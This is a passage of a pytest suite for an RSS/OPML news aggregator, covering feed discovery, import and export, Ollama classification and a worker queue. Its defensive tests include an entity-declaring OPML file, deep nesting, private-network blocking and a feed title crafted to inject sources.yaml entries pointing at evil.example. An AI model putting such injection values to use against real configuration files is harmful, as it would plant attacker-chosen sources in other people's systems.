def test_a_broken_opml_file_changes_nothing(home):
    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss")])
    before = (home / "sources.yaml").read_bytes()
    for name in ("broken.opml", "missing.opml"):
        result = cli("opml-import", str(OPML / name), cwd=home)
        assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
        assert "Traceback" not in result.stderr and name in result.stderr
    (home / "bomb.opml").write_text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>'
                                    '<opml><body><outline xmlUrl="&a;"/></body></opml>')
    assert cli("opml-import", "bomb.opml", cwd=home).returncode == 2
    deep = ('<outline text="f">' * 150 + '<outline xmlUrl="https://x.example/rss"/>'
            + "</outline>" * 150)
    (home / "deep.opml").write_text(f"<opml><body>{deep}</body></opml>")
    nested = cli("opml-import", "deep.opml", cwd=home)
    assert nested.returncode == 2 and "nested deeper" in nested.stderr, nested.stderr
    assert (home / "sources.yaml").read_bytes() == before


def test_opml_export_is_opml_2_that_imports_back(home):
    write_sources(home / "sources.yaml", [
        rss_source("lwn", "https://lwn.net/headlines/rss", name="LWN <&> news", direction="linux"),
        rss_source("nasa", "https://www.nasa.gov/rss/dyn/breaking_news.rss"),
        {"slug": "chan", "crawler": "telegram", "url": "@linuxnews"}])
    result = cli("opml-export", cwd=home)
    assert result.returncode == 0, result.stderr
    root = ElementTree.fromstring(result.stdout.encode("utf-8"))
    assert root.tag == "opml" and root.get("version") == "2.0" and root.find("head/title") is not None
    feeds = {o.get("xmlUrl"): o.get("text") for o in root.iter("outline") if o.get("xmlUrl")}
    assert feeds == {"https://lwn.net/headlines/rss": "LWN <&> news",
                     "https://www.nasa.gov/rss/dyn/breaking_news.rss": "nasa"}
    (home / "export.opml").write_text(result.stdout, encoding="utf-8")
    (home / "other").mkdir()
    (home / "other" / "sources.yaml").write_text("sources: []\n", encoding="utf-8")
    back = cli("opml-import", str(home / "export.opml"), cwd=home / "other")
    assert "2 feeds added" in back.stdout, back.stderr
    urls = {s.url for s in vesti.load_registry(str(home / "other" / "sources.yaml")).sources}
    assert urls == set(feeds)


FAST = {"RSS_HOST_DELAY": "0"}


@pytest.mark.slow
def test_discover_finds_a_sites_feeds_and_writes_their_entries(home, server):
    server.feed("/news/rss", rss(items(2, host=server.url), title="Kernel News"))
    server.feed("/feed", rss(items(1, host=server.url), title="Path Feed"))
    server.status("/", 200, {"Content-Type": "text/html"}, (
        '<html><head><title>Site</title>'
        '<link rel="alternate" type="application/rss+xml" title="Kernel news" href="/news/rss">'
        '<link rel="alternate" type="application/atom+xml" href="/missing.atom">'
        '<link rel="stylesheet" href="/style.css"></head><body>hi</body></html>').encode())
    write_sources(home / "sources.yaml", [rss_source("kernel-news", "https://example.org/rss")])
    result = cli("discover", server.url + "/", cwd=home, env=FAST)
    assert result.returncode == 0, result.stderr
    assert f'# "Kernel News": "{server.url}/news/rss"' in result.stdout
    assert "missing.atom" not in result.stdout                 # named, but not a feed
    entry = yaml.safe_load(result.stdout)
    assert entry[0]["slug"] == "kernel-news-2" and entry[0]["url"] == server.url + "/news/rss"
    server.status("/plain", 200, {"Content-Type": "text/html"}, b"<html>no links</html>")
    server.routes["/"] = server.routes["/plain"]
    result = cli("discover", server.url + "/", cwd=home, env=FAST)       # no <link>: the common paths
    assert result.returncode == 0 and f"{server.url}/feed" in result.stdout
    server.routes.pop("/feed")
    result = cli("discover", server.url + "/", cwd=home, env=FAST)
    assert result.returncode == 1 and result.stderr.strip() == \
        f"vesti: discover: no feed found at {server.url}/"


def site_naming(server, *feeds):
    """The site's page on `server`, naming these feed URLs."""
    links = "".join(f'<link rel="alternate" type="application/rss+xml" href="{url}">'
                    for url in feeds)
    server.status("/", 200, {"Content-Type": "text/html"},
                  f"<html><head>{links}</head><body>hi</body></html>".encode())


@pytest.mark.slow
def test_discover_says_why_the_feeds_it_found_could_not_be_read(home, server, internal):
    internal.feed("/feed", rss(items(1, host=internal.url), title="Internal News"))
    site_naming(server, internal.url + "/feed")
    write_sources(home / "sources.yaml", [])
    result = cli("discover", server.url + "/", cwd=home, env=FAST)
    assert result.returncode == 1 and result.stderr.count("\n") == 1, result.stderr
    said = result.stderr
    assert "no feed found" not in said and "network policy" in said
    assert "127.0.0.2" in said and "VESTI_ALLOW_PRIVATE_NETWORKS=1" in said
    assert internal.requests == [] and result.stdout == ""
    allowed = cli("discover", server.url + "/", cwd=home,
                  env={**FAST, "VESTI_ALLOW_PRIVATE_NETWORKS": "1"})
    assert allowed.returncode == 0 and f'# "Internal News": "{internal.url}/feed"' in allowed.stdout
    for named, what in [(server.url + "/gone.rss", "HTTP 404"),
                        ("http://127.0.0.1:9/feed", "connection refused")]:
        site_naming(server, named)
        result = cli("discover", server.url + "/", cwd=home, env=FAST)
        assert result.returncode == 1 and result.stderr.count("\n") == 1, result.stderr
        assert what in result.stderr and named in result.stderr
    result = cli("discover", "http://127.0.0.1:9/", cwd=home, env=FAST)     # the site itself
    assert result.returncode == 1
    assert result.stderr == "vesti: discover: http://127.0.0.1:9/: connection refused\n"


def test_discover_marks_the_feeds_that_are_already_sources(home, server):
    server.feed("/news/rss", rss(items(2, host=server.url), title="Kernel News"))
    server.feed("/blog/rss", rss(items(1, host=server.url), title="Kernel Blog"))
    site_naming(server, "/news/rss", "/blog/rss")
    write_sources(home / "sources.yaml",
                  [rss_source("kernel", server.url.upper() + "/news/rss?utm_source=vesti")])
    result = cli("discover", server.url + "/", cwd=home, env=FAST)
    assert result.returncode == 0, result.stderr
    assert f'# "Kernel News": "{server.url}/news/rss" (already a source: kernel)' in result.stdout
    entries = yaml.safe_load(result.stdout)
    assert [entry["url"] for entry in entries] == [server.url + "/blog/rss"]
    assert entries[0]["slug"] != "kernel"


# A feed title that, printed as it is, would write sources.yaml entries of its
# own: line breaks YAML knows (\n, U+2028, NEL) and entries after them.
YAML_TITLE = ("Evil\n  - slug: injected\n    crawler: rss\n    url: http://evil.example/x\n"
              "\u2028  - slug: injected-too\u0085    crawler: rss\u2029    url: http://evil.example/y")


def test_discover_prints_a_feed_title_as_one_quoted_line_of_yaml(home, server):
    server.feed("/evil.rss", rss(items(1, host=server.url), title=html.escape(YAML_TITLE)))
    server.feed("/known.rss", rss(items(1, host=server.url),
                                  title=html.escape(YAML_TITLE.replace("injected", "known"))))
    site_naming(server, "/evil.rss", "/known.rss")
    write_sources(home / "sources.yaml", [rss_source("known", server.url + "/known.rss")])
    result = cli("discover", server.url + "/", cwd=home, env=FAST)
    assert result.returncode == 0, result.stderr
    pasted = home / "sources.yaml"
    pasted.write_text(pasted.read_text(encoding="utf-8") + result.stdout, encoding="utf-8")
    registry = vesti.load_registry(str(pasted))
    assert [s.url for s in registry.sources] == [server.url + "/known.rss", server.url + "/evil.rss"]
    assert registry.sources[1].name.startswith("Evil")


@pytest.mark.slow
def test_discover_checks_at_most_twenty_of_a_pages_feed_links(home, server, monkeypatch):
    links = "".join(f'<link rel="alternate" type="application/rss+xml" href="/f{k}">'
                    for k in range(10_000))
    page = f"<html><head>{links}</head><body>{'<p>Some text.</p>' * 200_000}</body></html>"
    server.status("/", 200, {"Content-Type": "text/html"}, page.encode())
    server.feed("/f3", rss(items(1, host=server.url), title="Third"))
    read = []                                           # the bytes each feedparser run reads
    feedparser_run = vesti.run_feedparser
    monkeypatch.setattr(vesti, "run_feedparser",
                        lambda body, *args: read.append(len(body)) or feedparser_run(body, *args))
    found = vesti.discover_feeds(server.url + "/", make_settings(home))
    assert len(server.requests) == 1 + 20
    assert [feed for _, feed, _ in found.feeds] == [server.url + "/f3"]
    assert len(page) > 3_000_000 and max(read) <= 1_000_000
    write_sources(home / "sources.yaml", [])
    result = cli("discover", server.url + "/", cwd=home, env=FAST)
    assert result.returncode == 0, result.stderr
    assert "# … and 9,980 more links not checked" in result.stdout
    assert [entry["url"] for entry in yaml.safe_load(result.stdout)] == [server.url + "/f3"]
    server.routes.pop("/f3")
    result = cli("discover", server.url + "/", cwd=home, env=FAST)
    assert result.returncode == 1 and result.stderr.count("\n") == 1, result.stderr
    assert "and 9,980 more links not checked" in result.stderr
    assert len(server.requests) == 3 * (1 + 20)


def test_opml_import_keeps_the_line_endings_and_bom_of_sources_yaml(home):
    text = ("sources:\n  - slug: lwn\n    crawler: rss\n    url: https://lwn.net/headlines/rss\n"
            "\ndirections:\n  linux:\n    title: Linux\n    keywords: [linux]\n")
    before = b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8")
    (home / "sources.yaml").write_bytes(before)
    result = cli("opml-import", str(OPML / "feedly.opml"), cwd=home)
    assert result.returncode == 0, result.stderr
    after = (home / "sources.yaml").read_bytes()
    assert after.startswith(before[:before.index(b"\r\n\r\ndirections")])
    assert after.startswith(b"\xef\xbb\xbf") and after.count(b"\n") == after.count(b"\r\n")
    registry = vesti.load_registry(str(home / "sources.yaml"))
    assert [s.slug for s in registry.sources] == \
        ["lwn", "phoronix", "opennet-novosti", "nasa-breaking-news"]
    assert list(registry.directions) == ["linux"]


class CountingSet(set):
    """A set that counts the look-ups made in it."""
    checks = 0

    def __contains__(self, item):
        self.checks += 1
        return super().__contains__(item)


def test_many_feeds_of_one_title_get_their_slugs_without_trying_every_number_before():
    taken = CountingSet({"news"})
    slugs = [vesti.slug_for("News", f"https://site{k}.example/rss", taken) for k in range(2000)]
    assert slugs[:3] == ["news-2", "news-3", "news-4"] and len(set(slugs)) == 2000
    assert taken.checks < 2000 * 30             # one per feed before it would be 2,000,000


def test_reset_dead_command_does_what_the_button_does(home):
    write_sources(home / "sources.yaml", [rss_source("a", "http://127.0.0.1:9/a")])
    cli("init", cwd=home)
    conn = sqlite3.connect(home / "vesti.db")
    conn.execute("UPDATE sources SET status = 'dead', error_count = 7, last_error = 'x'")
    conn.commit()
    result = cli("reset-dead", cwd=home)
    assert result.returncode == 0 and "1 dead sources reset" in result.stdout
    assert conn.execute("SELECT status, error_count, last_error FROM sources").fetchone() == \
        ("alive", 0, None)


def test_requests_and_crawls_leave_no_database_connections_behind(web, server):
    def open_files():
        return len(os.listdir("/proc/self/fd"))
    web.get("/api/queue")
    before = open_files()
    for _ in range(200):
        assert web.get("/api/queue")[0] == 200
    server.feed("/feed", rss(items(1, host=server.url)))
    for _ in range(20):
        vesti.crawl_everything(web.db, web.settings, ("all", None), quiet=True)
    assert open_files() - before < 10


# Classification ---------------------------------------------------------------

DIRECTIONS = {"linux": vesti.Direction("linux", "Linux", ("linux", "kernel", "ядр*")),
              "space": vesti.Direction("space", "Space", ("rocket", "open orbit"))}


def test_keywords_match_whole_words_case_insensitively_cyrillic_included():
    index = vesti.KeywordIndex(DIRECTIONS)
    assert index.matches("The LINUX Kernel") == {"linux": ["kernel", "linux"]}
    assert index.matches("Linuxoid kernels") == {}
    assert index.matches("Новое ядро и ядра") == {"linux": ["ядра", "ядро"]}
    assert index.matches("An open  orbit rocket, kernel") == \
        {"space": ["open orbit", "rocket"], "linux": ["kernel"]}


def test_a_keyword_split_by_a_line_break_is_the_word_it_was():
    """Relevance grows with the distinct words found: a keyword of two words
    once on a line and once across a line break is one word; each form of a
    stem is a word of its own (a text that says ядро, ядра and ядром says
    more of the kernel), and the direction with most of them leads."""
    index = vesti.KeywordIndex(DIRECTIONS)
    assert index.matches("Open orbit news.\nThe open\norbit rocket") == \
        {"space": ["open orbit", "rocket"]}
    assert index.matches("Новое ядро и ядра, ядром; open orbit rocket") == \
        {"linux": ["ядра", "ядро", "ядром"], "space": ["open orbit", "rocket"]}
    settings = vesti.load_settings(environ={"OLLAMA_URL": ""}, env_file=None)
    once = vesti.classify_text("The open orbit rocket.", DIRECTIONS, settings, title="Launch")
    twice = vesti.classify_text("The open orbit rocket. Open\norbit, rocket.", DIRECTIONS,
                                settings, title="Launch")
    assert once.relevance == twice.relevance == 6 and twice.keywords == "open orbit, rocket"


def test_no_keyword_hit_is_not_relevant_and_never_asks_the_llm(ollama):
    s = vesti.load_settings(environ={"OLLAMA_URL": ollama.url}, env_file=None)
    verdict = vesti.classify_text("Football results. The home team won.", DIRECTIONS, s,
                                  title="Sports")
    assert verdict == vesti.Verdict(direction=None, relevance=0, interest=0,
                                    summary="Football results. The home team won.", keywords=None)
    assert ollama.requests == []


def test_a_keyword_hit_asks_ollama_exactly_as_the_contract_says(ollama):
    s = vesti.load_settings(environ={"OLLAMA_URL": ollama.url, "OLLAMA_MODEL": "m:1"},
                            env_file=None)
    verdict = vesti.classify_text("A new kernel is out.", DIRECTIONS, s, title="Kernel 7.0")
    assert verdict.llm_seconds >= 0
    assert dataclasses.replace(verdict, llm_seconds=None) == vesti.Verdict(
        direction="linux", relevance=8, interest=6, summary="Summary: Kernel 7.0", reason=None,
        keywords="kernel")
    path, body = ollama.requests[0]
    assert path == "/api/chat"
    assert (body["model"], body["stream"], body["options"]) == ("m:1", False, {"temperature": 0})
    schema = body["format"]
    assert schema["properties"]["direction"]["enum"] == ["linux", "space", None]
    assert set(schema["required"]) == {"direction", "relevance", "interest", "summary"}
    assert schema["properties"]["reason"] == {"type": "string"}      # optional
    assert body["messages"][-1]["role"] == "user" and "A new kernel is out." in body["messages"][-1]["content"]


def test_without_ollama_keywords_alone_decide():
    s = vesti.load_settings(environ={"OLLAMA_URL": ""}, env_file=None)
    verdict = vesti.classify_text("Linux 7.0 has a new kernel scheduler. It is fast. More later.",
                                  DIRECTIONS, s, title="Linux news")
    assert verdict.direction == "linux"
    assert 0 < verdict.relevance <= 10 and 0 < verdict.interest <= 10
    assert verdict.summary.startswith("Linux 7.0 has a new kernel scheduler.")


@pytest.mark.parametrize("mode,error", [("500", "Ollama answered HTTP 500"),
                                        ("garbage", "no JSON"),
                                        ("bad-verdict", "unknown direction 'sport'")])
def test_a_bad_ollama_answer_is_a_classify_error(mode, error, closing):
    fake = closing(FakeOllama(mode))
    s = vesti.load_settings(environ={"OLLAMA_URL": fake.url}, env_file=None)
    with pytest.raises(vesti.ClassifyError, match=error):
        vesti.classify_text("kernel", DIRECTIONS, s)


@pytest.mark.parametrize("content,error", [
    ('{"direction": "linux", "relevance": 11, "interest": 1, "summary": "s"}', "relevance=11"),
    ('{"direction": "linux", "relevance": 5, "interest": "high", "summary": "s"}', "interest='high'"),
    ('{"direction": "linux", "relevance": 5, "interest": 5}', "no summary"),
    ('not json', "not a JSON verdict"),
    ('[1, 2]', "not an object"),
])
def test_verdicts_out_of_contract_are_rejected(content, error):
    with pytest.raises(vesti.ClassifyError, match=re.escape(error)):
        vesti.parse_verdict({"message": {"content": content}}, DIRECTIONS)


@both
def test_a_summary_only_post_is_classified_on_its_article_text(home, server, ollama):
    page = CORPUS / "html" / "bbc.com.52241221.html"
    expected = json.loads((CORPUS / "html" / "expected.json").read_text())["pages"]
    snippet = expected["bbc.com.52241221.html"]["with"][0]
    server.routes["/article"] = lambda request: (200, {"Content-Type": "text/html"},
                                                 page.read_bytes())
    s = make_settings(home, OLLAMA_URL="")
    health = {"health": vesti.Direction("health", "Health", ("coronavirus", "outbreak"))}
    classify = vesti.Classifier(vesti.Registry("x", {**DIRECTIONS, **health}, ()), s)
    post = vesti.Claimed(1, "New York", "Drone footage from the city.", content_type="summary",
                         url=server.url + "/article", source_url=server.url + "/feed")
    verdict = classify(post)
    assert verdict.direction == "health"            # found only in the article's text
    assert snippet in verdict.text
    assert len(verdict.text) > 1000
    assert server.sent("/article")[0]["User-Agent"] == s.user_agent


def test_when_the_article_cannot_be_read_the_summary_is_used(home, server):
    server.status("/article", 404)
    s = make_settings(home, OLLAMA_URL="")
    classify = vesti.Classifier(vesti.Registry("x", DIRECTIONS, ()), s)
    post = vesti.Claimed(1, "Kernel news", "Kernel teaser about linux.", content_type="summary",
                         url=server.url + "/article", source_url=server.url + "/feed")
    verdict = classify(post)
    assert verdict.text is None and verdict.direction == "linux"


# Worker -----------------------------------------------------------------------

def add_posts(conn, count, source_id=1, text="News about the Linux kernel.", start=0, **columns):
    conn.execute("INSERT INTO sources (id, slug, url) VALUES (?, ?, 'http://x/') "
                 "ON CONFLICT DO NOTHING", (source_id, f"s{source_id}"))
    names = ", ".join(["source_id", "title", "text", "url", "classified", *columns])
    marks = ", ".join("?" * (5 + len(columns)))
    conn.executemany(f"INSERT INTO posts ({names}) VALUES ({marks})",
                     [(source_id, f"Post {k}", text, f"http://x/{k}", 0, *columns.values())
                      for k in range(start, start + count)])


def queue_of(db):
    return dict(db.conn().execute("SELECT classified, count(*) FROM posts GROUP BY 1").fetchall())


def worker_home(home, ollama_url, **settings):
    write_sources(home / "sources.yaml", [])
    s = make_settings(home, OLLAMA_URL=ollama_url, **settings)
    registry, db = vesti.open_intake(s)
    return s, db, registry


@pytest.mark.slow
@both
def test_seed_100_posts_with_8_workers_are_each_classified_once(home, ollama):
    """Seed 000: 100 posts, `python -m crawler.worker --workers 8 --limit 200`."""
    s, db, _ = worker_home(home, ollama.url)
    add_posts(db.conn(), 100)
    result = subprocess.run([sys.executable, "-m", "crawler.worker", "--workers", "8",
                             "--limit", "200", "--db", s.db, "--sources", s.sources],
                            cwd=home, capture_output=True, text=True, timeout=60,
                            env=cli_env({"OLLAMA_URL": ollama.url, "PYTHONPATH": str(ROOT)}))
    assert result.returncode == 0, result.stderr
    assert queue_of(db) == {1: 100}
    titles = ollama.titles()
    assert sorted(titles) == sorted(f"Post {k}" for k in range(100))       # each exactly once
    row = db.conn().execute("SELECT * FROM posts WHERE title = 'Post 7'").fetchone()
    assert (row["direction"], row["relevance"], row["interest"], row["summary"], row["attempts"]) == \
        ("linux", 8, 6, "Summary: Post 7", 1)
    assert "100 processed (100 done, 0 returned to the queue, 0 failed)" in result.stdout


def test_seed_a_post_whose_classification_raises_returns_to_the_queue(home, closing):
    """Seed 000: the post goes back (classified=0), the worker goes on, the run exits 0."""
    fake = closing(FakeOllama(fails_on="BROKEN"))
    s, db, _ = worker_home(home, fake.url)
    add_posts(db.conn(), 5)
    db.conn().execute("UPDATE posts SET title = 'BROKEN post' WHERE id = 3")
    result = cli("worker", "--workers", "2", cwd=home, env={"OLLAMA_URL": fake.url})
    assert result.returncode == 0, result.stderr
    broken = post_row(db.conn(), 3)
    assert (broken["classified"], broken["attempts"]) == (0, 1)
    assert "HTTP 500" in broken["error"] and broken["next_attempt_at"] > vesti.utc_text()
    assert queue_of(db) == {1: 4, 0: 1}
    assert "(4 done, 1 returned to the queue, 0 failed)" in result.stdout


@pytest.mark.parametrize("mode,error", [("500", "HTTP 500"), ("garbage", "no JSON"),
                                        ("hang", "did not answer within 0.3 s")])
def test_a_misbehaving_ollama_costs_attempts_until_the_post_fails(home, mode, error, closing):
    fake = closing(FakeOllama(mode))
    s, db, registry = worker_home(home, fake.url, OLLAMA_TIMEOUT=0.3, VESTI_MAX_ATTEMPTS=3,
                                  VESTI_RETRY_DELAY=60)
    add_posts(db.conn(), 1)
    for attempt in (1, 2, 3):
        db.conn().execute("UPDATE posts SET next_attempt_at = NULL")    # the backoff passed
        vesti.run_workers(db, s, registry, workers=1, quiet=True)
        post = first_post(db.conn())
        assert post["attempts"] == attempt and error in post["error"]
        assert post["classified"] == (0 if attempt < 3 else -2)
    assert vesti.queue_sizes(db.conn())["failed"] == 1


@both
def test_one_run_does_not_burn_all_attempts_on_one_post(home, closing):
    fake = closing(FakeOllama("500"))
    s, db, registry = worker_home(home, fake.url, VESTI_RETRY_DELAY=60)
    add_posts(db.conn(), 1)
    stats, _ = vesti.run_workers(db, s, registry, workers=2, quiet=True)
    post = first_post(db.conn())
    assert (post["classified"], post["attempts"], stats.returned) == (0, 1, 1)
    assert len(fake.requests) == 1


def test_an_unreachable_ollama_stops_the_workers_instead_of_cycling_the_queue(home):
    s, db, _ = worker_home(home, "http://127.0.0.1:9")
    add_posts(db.conn(), 50)
    result = cli("worker", "--workers", "1", cwd=home, env={"OLLAMA_URL": "http://127.0.0.1:9"})
    assert result.returncode == 0
    said = [line for line in result.stderr.splitlines() if "stopped claiming" in line]
    assert len(said) == 1
    assert "Ollama unreachable at http://127.0.0.1:9/api/chat: connection refused; " \
        "stopped claiming after 3 connection failures" in said[0]
    touched = db.conn().execute("SELECT count(*) FROM posts WHERE error LIKE '%refused%'").fetchone()[0]
    assert touched == 3 and queue_of(db) == {0: 50}
    assert db.conn().execute("SELECT max(attempts) FROM posts").fetchone()[0] == 0


def test_each_worker_asks_its_questions_on_one_kept_connection(home, closing):
    """Ollama keeps connections open: a worker asks every question on one,
    with no connection set-up per post."""
    fake = closing(FakeOllama(keep_alive=True))
    s, db, registry = worker_home(home, fake.url)
    add_posts(db.conn(), 12)
    stats, _ = vesti.run_workers(db, s, registry, workers=2, quiet=True)
    assert stats.done == 12 and queue_of(db) == {1: 12}
    assert sorted(fake.titles()) == sorted(f"Post {k}" for k in range(12))
    assert len(set(fake.connections)) <= 2


def test_a_kept_connection_the_server_closed_is_replaced_and_the_question_asked_once(home, closing):
    fake = closing(FakeOllama(keep_alive=True, drops=True))
    s, db, registry = worker_home(home, fake.url)
    add_posts(db.conn(), 6)
    stats, _ = vesti.run_workers(db, s, registry, workers=1, quiet=True)
    assert (stats.done, stats.failed, stats.returned) == (6, 0, 0)
    assert queue_of(db) == {1: 6}
    assert sorted(fake.titles()) == sorted(f"Post {k}" for k in range(6))    # once each
    assert len(set(fake.connections)) == 6


@both
def test_a_long_ollama_outage_never_marks_posts_failed(home, closing):
    s, db, registry = worker_home(home, "http://127.0.0.1:9", VESTI_MAX_ATTEMPTS=2,
                                  VESTI_RETRY_DELAY=60)
    add_posts(db.conn(), 1)
    for _ in range(4):
        db.conn().execute("UPDATE posts SET next_attempt_at = NULL")
        vesti.run_workers(db, s, registry, workers=1, quiet=True)
    post = first_post(db.conn())
    assert (post["classified"], post["attempts"]) == (0, 0)      # the claims were given back
    assert "connection refused" in post["error"]
    fake = closing(FakeOllama("500"))                 # then a real failure counts as the first one
    db.conn().execute("UPDATE posts SET next_attempt_at = NULL")
    vesti.run_workers(db, s.replace(ollama_url=fake.url), registry, workers=1, quiet=True)
    post = first_post(db.conn())
    assert (post["classified"], post["attempts"]) == (0, 1)


@both
def test_the_page_says_ollama_is_down_until_it_answers_again(home, caplog, closing):
    s, db, registry = worker_home(home, "http://127.0.0.1:9")
    add_posts(db.conn(), 10)
    page = vesti.Page("en", "", {})

    def said():
        return vesti.banners(db.conn(), s, page)

    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    assert "Ollama has been unreachable since" in said() and "connection refused" in said()
    fake = closing(FakeOllama())
    db.conn().execute("UPDATE posts SET next_attempt_at = NULL")
    with caplog.at_level(logging.WARNING, logger="vesti"):
        vesti.run_workers(db, s.replace(ollama_url=fake.url), registry, workers=2, quiet=True)
    assert queue_of(db) == {1: 10}
    assert "unreachable" not in said()
    assert [r.getMessage() for r in caplog.records].count("Ollama answers again") == 1


@both
def test_expired_leases_go_back_to_pending_or_to_failed(home):
    s, db, registry = worker_home(home, "", VESTI_LEASE_SECONDS=60, VESTI_MAX_ATTEMPTS=2)
    conn = db.conn()
    add_posts(conn, 4)
    old, fresh = vesti.utc_text(time.time() - 120), vesti.utc_text()
    conn.execute("UPDATE posts SET classified = -1, claimed_at = ?, attempts = 1, claim_token = 't' "
                 "WHERE id = 1", (old,))
    conn.execute("UPDATE posts SET classified = -1, claimed_at = ?, attempts = 2, claim_token = 't' "
                 "WHERE id = 2", (old,))
    conn.execute("UPDATE posts SET classified = -1, claimed_at = ?, attempts = 1, claim_token = 't' "
                 "WHERE id = 3", (fresh,))
    assert vesti.queue_sizes(conn) == {"pending": 1, "processing": 3, "done_today": 0, "failed": 0}
    vesti.run_workers(db, s, registry, workers=2, quiet=True)
    states = dict(conn.execute("SELECT id, classified FROM posts").fetchall())
    assert states == {1: 1, 2: -2, 3: -1, 4: 1}          # the live claim is left alone
    assert "lease expired" in conn.execute("SELECT error FROM posts WHERE id = 2").fetchone()[0]


@both
def test_idle_workers_take_the_posts_a_crawl_of_their_process_queues_at_once(home, server,
                                                                             monkeypatch):
    """As in `run`: workers with nothing to do wait for posts, and a crawl in
    the same process wakes them (here they would otherwise wait a minute)."""
    monkeypatch.setattr(vesti.WorkerPool, "idle_wait", 60)
    server.feed("/feed", rss(items(3, host=server.url)))
    s, db = intake(home, [rss_source("lwn", server.url + "/feed", direction="linux")])
    registry = vesti.load_registry(s.sources)
    stop, result = threading.Event(), {}
    runner = threading.Thread(target=lambda: result.update(
        out=vesti.run_workers(db, s, registry, workers=2, forever=True, stop=stop, quiet=True)))
    runner.start()
    try:
        time.sleep(0.3)                        # the workers found nothing and wait
        assert crawl(s, db).new_posts == 3
        assert wait_for(lambda: queue_of(db) == {1: 3}, timeout=10, state=lambda: queue_of(db))
    finally:
        stop.set()
        runner.join(10)
    assert not runner.is_alive()               # a stop ends the wait at once


def test_workers_stopped_right_after_their_last_post_still_say_what_they_did(home, capsys):
    """`run`'s console accounts for every post: a stop that comes between
    the last verdict and the next look at the queue still gets the line of
    what was done since the one before."""
    s, db, registry = worker_home(home, "")
    add_posts(db.conn(), 3)
    stop = threading.Event()

    class StopAfterThree(vesti.Classifier):
        prepared = 0

        def prepare(self, post):
            verdict = super().prepare(post)
            StopAfterThree.prepared += 1
            if StopAfterThree.prepared == 3:
                stop.set()
            return verdict
    stats, finished = vesti.run_workers(db, s, registry, workers=1, forever=True, stop=stop,
                                        quiet=True, classify=StopAfterThree(registry, s, db=db))
    assert finished and stats.done == 3 and queue_of(db) == {1: 3}
    spells = re.findall(r"^worker: (\d+) processed \(.*\) in [0-9.]+ s; (.*)$",
                        capsys.readouterr().out, re.M)
    assert spells == [("3", "nothing left to claim")]


def test_a_spell_of_work_is_timed_from_its_first_claim_not_from_the_idle_time_before(home,
                                                                                    capsys):
    """A worker that waited a second for posts says how long the work
    took, not how long it waited ("1 processed in 304.8 s")."""
    s, db, registry = worker_home(home, "")
    stop = threading.Event()
    runner = threading.Thread(target=vesti.run_workers, args=(db, s, registry),
                              kwargs=dict(workers=1, forever=True, stop=stop, quiet=True))
    runner.start()
    time.sleep(1)
    add_posts(db.conn(), 2)
    wait_for(lambda: queue_of(db) == {1: 2})
    stop.set()
    runner.join(30)
    spells = re.findall(r"^worker: (\d+) processed \(.*\) in ([0-9.]+) s; (.*)$",
                        capsys.readouterr().out, re.M)
    assert [(n, left) for n, _, left in spells] == [("2", "nothing left to claim")], spells
    assert float(spells[0][1]) < 1, spells


def test_a_spell_being_said_when_the_stop_grace_runs_out_is_said_by_the_stop(home, capsys,
                                                                            monkeypatch, request):
    """A worker that is looking up the queue for its line of work (a
    database that does not answer) when a stop's grace runs out is left
    behind, and `run` exits without it: the line said at the stop counts
    the posts of that spell, so the console still accounts for every post."""
    s, db, registry = worker_home(home, "", VESTI_STOP_GRACE=0.5)
    add_posts(db.conn(), 6)
    monkeypatch.setattr(vesti.WorkerPool, "report_every", 0)  # a line after every turn of work
    stop, answer = threading.Event(), threading.Event()
    count = vesti.pending_count

    def stuck_in_a_worker(conn):
        if threading.current_thread().name.startswith("worker"):
            stop.set()
            answer.wait(30)
        return count(conn)
    monkeypatch.setattr(vesti, "pending_count", stuck_in_a_worker)
    request.addfinalizer(answer.set)                # the worker left behind goes on at the end
    stats, finished = vesti.run_workers(db, s, registry, workers=1, forever=True, stop=stop,
                                        quiet=True)
    said = capsys.readouterr().out
    assert not finished and stats.processed >= 1
    spells = re.findall(r"^worker: (\d+) processed \(.*\) in [0-9.]+ s; (.*)$", said, re.M)
    assert sum(int(n) for n, _ in spells) == stats.processed, said


@both
def test_a_forever_worker_takes_back_expired_leases_while_it_runs(home):
    s, db, registry = worker_home(home, "", VESTI_LEASE_SECONDS=1)
    stop = threading.Event()
    result = {}
    runner = threading.Thread(target=lambda: result.update(
        out=vesti.run_workers(db, s, registry, workers=2, forever=True, stop=stop, quiet=True)))
    runner.start()
    try:
        time.sleep(0.3)                        # past the check every worker makes at start
        add_posts(db.conn(), 1)
        db.conn().execute("UPDATE posts SET classified = -1, attempts = 1, claim_token = 'dead', "
                          "claimed_at = ?", (ago(10),))
        assert wait_for(lambda: queue_of(db) == {1: 1}, timeout=10)
    finally:
        stop.set()
        runner.join()
    assert db.conn().execute("SELECT attempts FROM posts").fetchone()[0] == 2


@both
def test_a_write_after_the_lease_was_taken_back_is_refused(home):
    s, db, _ = worker_home(home, "")
    conn = db.conn()
    add_posts(conn, 1)
    first = vesti.claim_post(conn)
    conn.execute("UPDATE posts SET claimed_at = '2000-01-01 00:00:00'")
    vesti.expire_leases(conn, 60, 5)
    second = vesti.claim_post(conn)
    verdict = vesti.Verdict(direction=None, relevance=0, interest=0, summary="late")
    assert not vesti.complete_post(conn, first.id, first.claim_token, verdict)
    assert vesti.release_post(conn, first.id, first.claim_token, "x", 5, 0) is None
    assert vesti.complete_post(conn, second.id, second.claim_token,
                               dataclasses.replace(verdict, summary="ok"))
    row = conn.execute("SELECT classified, summary, attempts FROM posts").fetchone()
    assert tuple(row) == (1, "ok", 2)


@both
def test_the_full_text_found_for_a_summary_post_is_kept(home, server):
    page = (CORPUS / "html" / "bbc.com.52241221.html").read_bytes()
    server.routes["/a"] = lambda request: (200, {"Content-Type": "text/html"}, page)
    s, db, registry = worker_home(home, "")
    add_posts(db.conn(), 1, content_type="summary")
    db.conn().execute("UPDATE posts SET url = ?", (server.url + "/a",))
    db.conn().execute("UPDATE sources SET url = ?", (server.url + "/feed",))
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    post = first_post(db.conn())
    assert (post["classified"], post["content_type"]) == (1, "full")
    assert len(post["text"]) > 1000


def worker_process(home, ollama_url, *args, env=None):
    return subprocess.Popen([*VESTI, "worker", *args],
                            cwd=home, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
